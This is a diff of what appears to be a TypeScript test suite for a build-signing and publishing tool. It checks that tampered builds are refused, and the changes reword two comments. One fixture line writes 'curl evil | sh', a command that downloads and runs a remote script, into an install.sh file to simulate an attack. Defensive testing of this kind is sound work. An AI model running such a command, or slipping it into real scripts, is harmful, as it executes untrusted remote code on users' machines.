@@ -63,7 +63,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     await project.succeed("sign", "--site", "prod");
     return project.succeed("publish", "prod");
   };
-  /** Nothing is signed: the command exits 6, names a file and a way out, and the site is as it was. */
+  /** Nothing is signed: the command exits 6 with a file and a hint, and the site is unchanged. */
   const refuses = async (message: RegExp, ...args: string[]) => {
     const before = live();
     const { exitCode, stderr } = await project.run(...args);
@@ -370,7 +370,7 @@ describe("an attacker who can change the input of sign", () => {
         /^error\[build-unproved\] dist\/build\.json is not what was signed\n {2}hint: Nothing was published\. Build and sign it again: /,
       ),
     });
-    // The signed build, and one file more in the list of what signing added.
+    // The signed build with another file in the list of files that sign added.
     rmSync(join(project.folder, "dist"), { recursive: true });
     cpSync(kept, join(project.folder, "dist"), { recursive: true });
     writeFileSync(dist("install.sh"), "curl evil | sh\n");
